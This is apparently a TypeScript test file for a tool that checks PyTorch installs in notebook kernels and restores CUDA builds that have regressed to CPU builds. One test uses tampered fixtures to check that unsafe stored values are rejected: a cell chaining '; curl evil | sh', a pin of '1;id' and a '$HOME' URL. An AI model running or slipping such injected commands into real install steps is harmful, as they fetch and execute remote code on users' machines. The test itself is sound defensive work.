import { advise } from '../../advice/engine';
import { english, tr } from '../../report/message';
import { MARK, untranslated } from '../../__tests__/translate';
import { cu130BecameCpu, loadBase, merge } from '../../__tests__/canned';
import type { IProbeReport } from '../../report/types';
import {
  detectRegression,
  revertPlan,
  sameCell,
  unanswered,
  verifiedBuild,
  verifyInstall
} from '../verify';

/** The CUDA build with missing libraries (captured here) and its +cpu plan. */
const before = loadBase('real-cu130-broken');
const plan = advise(before, { packages: ['torch'] }).plans[0];
/** The real torch-cpu report after a deep check, as the verify step sees it. */
const after: IProbeReport = loadBase('real-torch-cpu');

describe('verifyInstall', () => {
  it('plans the +cpu build for the broken CUDA build on this GPU-less machine', () => {
    expect(plan.cell).toBe(
      '%pip install torch==2.14.1+cpu --index-url https://download.pytorch.org/whl/cpu'
    );
    expect(after.deep?.status).toBe('ok');
  });

  it('verifies a deep-checked report that matches the plan', () => {
    const p = {
      ...plan,
      cell: plan.cell.replace('2.14.1', '2.13.0'),
      expect: { ...plan.expect!, packages: { torch: '2.13.0+cpu' } }
    };
    const v = verifyInstall(p, `  ${p.cell}\n`, before, after);
    expect(v).toMatchObject({ verified: true, edited: false, reasons: [] });
    expect(v.table[0]).toEqual({
      name: 'torch',
      before: '2.14.1+cu130',
      expected: '2.13.0+cpu',
      after: '2.13.0+cpu',
      ok: true
    });
  });

  it('says what differs when the kernel does not hold the planned build', () => {
    const v = verifyInstall(plan, plan.cell, before, after);
    expect(v.verified).toBe(false);
    expect(v.reasons.map(english)).toContain(
      'torch is 2.13.0+cpu, the plan installs 2.14.1+cpu.'
    );
  });

  it('cannot compare an edited cell, and shows what it found', () => {
    const v = verifyInstall(plan, '%pip install torch', before, after);
    expect(v).toMatchObject({ verified: false, edited: true });
    expect(english(v.reasons[0])).toMatch(/edited before it ran/);
    expect(v.table[0]).toMatchObject({ after: '2.13.0+cpu', ok: null });
  });

  it('fails on a failed deep check, a failed smoke op or a missing GPU', () => {
    const p = {
      ...plan,
      expect: { ...plan.expect!, packages: { torch: '2.13.0+cpu' } }
    };
    const noDeep = verifyInstall(p, p.cell, before, { ...after, deep: null });
    expect(noDeep.reasons.map(english)).toContain(
      'The deep check did not finish: no result.'
    );
    const smokeFailed = merge(after, {
      deep: { smoke: [{ device: 'cpu', ok: false, error: 'boom', ms: 1 }] }
    });
    expect(
      verifyInstall(p, p.cell, before, smokeFailed).reasons.map(english)
    ).toContain('A tensor op on cpu failed: boom');
    const gpuPlan = {
      ...p,
      expect: { ...p.expect, accelerator: true, device: 'cuda:0' }
    };
    const v = verifyInstall(gpuPlan, p.cell, before, after);
    expect(v.reasons.map(english)).toEqual([
      'torch.cuda.is_available() is False after the install.',
      'No tensor op ran on cuda:0.'
    ]);
  });

  it('gives every reason as a message; kernel values are its arguments', () => {
    const p = {
      ...plan,
      expect: { ...plan.expect!, accelerator: true, device: 'cuda:0' }
    };
    const cases = [
      verifyInstall(plan, plan.cell, before, after),
      verifyInstall(plan, '%pip install torch', before, after),
      verifyInstall(p, p.cell, before, after),
      verifyInstall(p, p.cell, before, { ...after, deep: null }),
      verifyInstall(p, p.cell, before, before)
    ];
    const reasons = cases.flatMap(v => v.reasons);
    expect(reasons.length).toBeGreaterThan(5);
    for (const r of reasons) {
      expect(untranslated(tr(MARK, r))).toBe('');
    }
    for (const o of [
      null,
      { kind: 'timeout', kernelId: 'k', waitedForBusyKernel: false },
      { kind: 'not-python', kernelId: 'k', language: 'R' }
    ] as const) {
      expect(untranslated(tr(MARK, unanswered(o)))).toBe('');
    }
    expect(
      untranslated(tr(MARK, revertPlan(cu130BecameCpu('/x'), after).title))
    ).toBe('');
  });

  it('treats whitespace changes as no edit', () => {
    expect(sameCell('%pip install  torch==1', '\n%pip install torch==1 ')).toBe(
      true
    );
    expect(sameCell('%pip install torch==1', '%pip install torch==2')).toBe(
      false
    );
  });
});

describe('regression guard', () => {
  const verified = verifiedBuild(
    'gpu-env',
    loadBase('real-torch-cu130'),
    '%pip install torch==2.14.1+cu130 --index-url https://download.pytorch.org/whl/cu130',
    new Date(0),
    'cuda:0'
  );

  it('remembers the build of each managed package', () => {
    expect(verified.packages).toEqual({
      torch: '2.14.1+cu130',
      torchvision: '0.29.1+cu130'
    });
  });

  it('warns when +cu130 silently became +cpu in the same interpreter', () => {
    const now = merge(loadBase('real-torch-cpu'), {
      python: { executable: verified.executable }
    });
    const reg = detectRegression(verified, now);
    expect(reg?.changes).toEqual([
      { name: 'torch', verified: '2.14.1+cu130', now: '2.13.0+cpu' },
      { name: 'torchvision', verified: '0.29.1+cu130', now: null }
    ]);
    const back = revertPlan(reg!, now);
    // Rebuilt from the stored builds, not the stored text replayed.
    expect(back.cell).toBe(
      '%pip install torch==2.14.1+cu130 torchvision==0.29.1+cu130 --index-url https://download.pytorch.org/whl/cu130'
    );
    expect(back.indexUrl).toBe('https://download.pytorch.org/whl/cu130');
    expect(back.expect).toEqual({
      packages: verified.packages,
      accelerator: true,
      device: 'cuda:0'
    });
    expect(back.packages[0]).toEqual({
      name: 'torch',
      version: '2.14.1+cu130',
      replaces: '2.13.0+cpu'
    });
  });

  it('rebuilds the revert cell from pins and refuses what is not plain', () => {
    const now = merge(loadBase('real-torch-cpu'), {
      python: { executable: verified.executable }
    });
    const tampered = {
      ...verified,
      cell: '%pip install torch; curl evil | sh',
      indexUrl: 'https://m.example/whl?a=1&b=2',
      pins: { torch: '2.14.1+cu130' }
    };
    const back = revertPlan(detectRegression(tampered, now)!, now);
    expect(back.cell).toBe(
      "%pip install torch==2.14.1+cu130 --index-url 'https://m.example/whl?a=1&b=2'"
    );
    const bad = revertPlan(
      detectRegression({ ...tampered, indexUrl: 'https://m/$HOME' }, now)!,
      now
    );
    expect(bad.cell).toBe('');
    expect(english(bad.warnings[0])).toContain('$');
    const badPin = revertPlan(
      detectRegression({ ...tampered, pins: { torch: '1;id' } }, now)!,
      now
    );
    expect(badPin.cell).toBe('');
  });

  it('stays quiet for the same build, or another interpreter', () => {
    expect(detectRegression(verified, loadBase('real-torch-cu130'))).toBeNull();
    expect(detectRegression(verified, loadBase('real-torch-cpu'))).toBeNull();
    expect(detectRegression(null, loadBase('real-torch-cpu'))).toBeNull();
  });
});
